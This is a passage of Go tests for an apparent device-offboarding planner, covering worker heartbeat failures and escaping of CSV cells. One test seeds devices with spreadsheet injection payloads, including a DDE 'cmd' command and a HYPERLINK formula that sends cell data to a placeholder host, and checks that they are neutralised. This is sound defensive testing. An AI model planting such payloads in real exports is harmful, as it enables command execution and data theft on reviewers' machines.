	deadline := time.Now().Add(10 * time.Second)
	for {
		code, stdout, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out)
		if code != exitOK {
			t.Fatalf("exit %d: %s", code, stderr)
		}
		if strings.Contains(stdout, "campaign run     about 72h at 100/1m and 1500/1h, budget 50/24h (0 requests") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("summary, a budget of 50/24h in force:\n%s", stdout)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestCampaignPlanWorkerGoneMidPlan: the worker that took the plan
// request says it is at work, then falls silent (it was killed, or lost
// its connection): offboardctl says so within a few of its heartbeats,
// exit 1 and no file, rather than wait for the whole --timeout.
func TestCampaignPlanWorkerGoneMidPlan(t *testing.T) {
	t.Parallel()
	nc, _ := natstest.Connect(t)
	if _, err := nc.Subscribe(offboard.Subjects{}.Plan("contoso"), func(m *nats.Msg) {
		_ = m.Respond([]byte(`{"state":"working","tenant":"contoso","heartbeat":100000000}`))
	}); err != nil {
		t.Fatal(err)
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "gone.csv")
	start := time.Now()
	var stdout, stderr bytes.Buffer
	code := run([]string{"--nats-url", nc.ConnectedUrl(), "campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d",
		"--unknown-tenant", "--timeout", "30s", "--out", out}, &stdout, &stderr)
	failedWithin(t, "", code, stderr.String(), start, 10*time.Second, out, "the worker building the plan stopped answering")
}

// TestCampaignPlanWorkerSaysItIsAtWork: while its inventory read waits,
// the worker building a plan says it is at work, every heartbeat.
func TestCampaignPlanWorkerSaysItIsAtWork(t *testing.T) {
	t.Parallel()
	hold, held := make(chan struct{}), make(chan struct{}, 1)
	e := setupPlanWith(t, worker.PlanOptions{Heartbeat: 100 * time.Millisecond}, "400d", false, func(o *mdesim.Options) {
		o.OnCall = func(c mdesim.Call) {
			if c.API == mde.APIMachines {
				select {
				case held <- struct{}{}:
					<-hold
				default:
				}
			}
		}
	})
	defer close(hold)
	replies := e.askPlan(t)
	working := 0
	for working < 5 {
		m, err := replies.NextMsg(5 * time.Second)
		if err != nil {
			t.Fatalf("%d working replies, then: %v", working, err)
		}
		if !strings.Contains(string(m.Data), `"state":"working"`) || !strings.Contains(string(m.Data), `"heartbeat":100000000`) {
			t.Fatalf("reply %s while the plan waits", m.Data)
		}
		working++
	}
}

// TestCampaignPlanWorkerStoppedMidPlan: a worker stopped while it reads
// the inventory answers that it stopped, rather than "context canceled"
// under inventory_unreadable, which points at the API.
func TestCampaignPlanWorkerStoppedMidPlan(t *testing.T) {
	t.Parallel()
	e, hold, held := setupPlanHeld(t)
	defer close(hold)
	type answer struct {
		code   int
		stderr string
	}
	done := make(chan answer, 1)
	go func() {
		code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", filepath.Join(e.dir, "stopped.csv"))
		done <- answer{code, stderr}
	}()
	select {
	case <-held:
	case <-time.After(30 * time.Second):
		t.Fatal("the plan read no page")
	}
	if err := e.app.Stop(context.Background()); err != nil {
		t.Fatal(err)
	}
	a := <-done
	if a.code != exitFailed || !strings.Contains(a.stderr, "the worker stopped before the plan was done: ask again") || strings.Contains(a.stderr, "context canceled") {
		t.Errorf("exit %d, stderr %q", a.code, a.stderr)
	}
	if _, err := os.Stat(filepath.Join(e.dir, "stopped.csv")); !os.IsNotExist(err) {
		t.Errorf("a file was written: %v", err)
	}
}

// TestCampaignPlanCellsAreNotFormulas: the plan is reviewed in a
// spreadsheet, and a device's tags are set on the device itself (its
// registry), its name by whoever runs it: a cell that begins with =, +,
// - or @ would be run as a formula when the CSV is opened. Such a cell
// of the informational columns begins with a quote; the device's id,
// which names it for campaign run, is never one, and the run takes the
// plan as it is.
func TestCampaignPlanCellsAreNotFormulas(t *testing.T) {
	t.Parallel()
	e := setupPlanWith(t, worker.PlanOptions{}, "400d", true)
	id := fmt.Sprintf("%040x", 7000)
	e.sim.AddMachine(e.tenantID, mdesim.Machine{
		ID: id, ComputerDNSName: "+cmd|' /C calc'!A0", OSPlatform: "-Linux", HealthStatus: "Inactive",
		LastSeen: time.Now().Add(-3000 * 24 * time.Hour), RbacGroupName: "@SUM(1+1)",
		MachineTags: []string{`=HYPERLINK("http://example.invalid/?"&A1,"open")`, "Lab"},
	})
	// Opened where the list separator is ';', each tag begins a cell.
	second := fmt.Sprintf("%040x", 7001)
	e.sim.AddMachine(e.tenantID, mdesim.Machine{
		ID: second, ComputerDNSName: "pc-7001.contoso.local", OSPlatform: "Windows11", HealthStatus: "Inactive",
		LastSeen: time.Now().Add(-2999 * 24 * time.Hour), MachineTags: []string{"Lab", "-2+3", `=HYPERLINK("http://example.invalid")`},
	})
	out := filepath.Join(e.dir, "formulas.csv")
	if code, _, stderr := e.ctl("campaign", "plan", "--tenant", "contoso", "--inactive-for", "90d", "--out", out); code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rows := readCSV(t, out)
	row := rows[1] // the oldest
	want := []string{id, "'+cmd|' /C calc'!A0", row[2], "'-Linux", "Inactive", "'@SUM(1+1)", `'=HYPERLINK("http://example.invalid/?"&A1,"open");Lab`}
	if !slices.Equal(row, want) {
		t.Errorf("row %q,\nwant %q", row, want)
	}
	if got, want := rows[2][6], `Lab;'-2+3;'=HYPERLINK("http://example.invalid")`; rows[2][0] != second || got != want {
		t.Errorf("row %q: tags %q, want %q", rows[2], got, want)
	}
	for _, r := range rows[1:] {
		for _, cell := range r {
			for _, part := range strings.Split(cell, ";") {
				if part != "" && strings.ContainsRune("=+-@\t\r", rune(part[0])) {
					t.Errorf("row %q: cell %q would be read as a formula", r, cell)
				}
			}
		}
	}
	report := filepath.Join(e.dir, "formulas-report.csv")
	if code, _, stderr := e.ctl("campaign", "run", "--tenant", "contoso", "--csv", out, "--dry-run", "--report", report, "--timeout", "2m"); code != exitOK {
		t.Fatalf("run: exit %d: %s", code, stderr)
	}
	if got := readCSV(t, report)[1]; got[2] != id || got[4] != offboard.OutcomeDryRun {
		t.Errorf("report row %q: want device %s, %s", got, id, offboard.OutcomeDryRun)
	}
}

// askPlan asks for a plan of contoso's devices not seen for 90 days, as
// offboardctl does, and returns the subscription its replies come on.
func (e *planEnv) askPlan(t *testing.T) *nats.Subscription {
	t.Helper()
	nc := e.js(t).Conn()
	inbox := nats.NewInbox()
	replies, err := nc.SubscribeSync(inbox)
	if err != nil {
		t.Fatal(err)
	}
	if err := nc.PublishRequest(offboard.Subjects{}.Plan("contoso"), inbox, []byte(`{"inactiveFor":7776000000000000}`)); err != nil {
		t.Fatal(err)
	}
	return replies
}
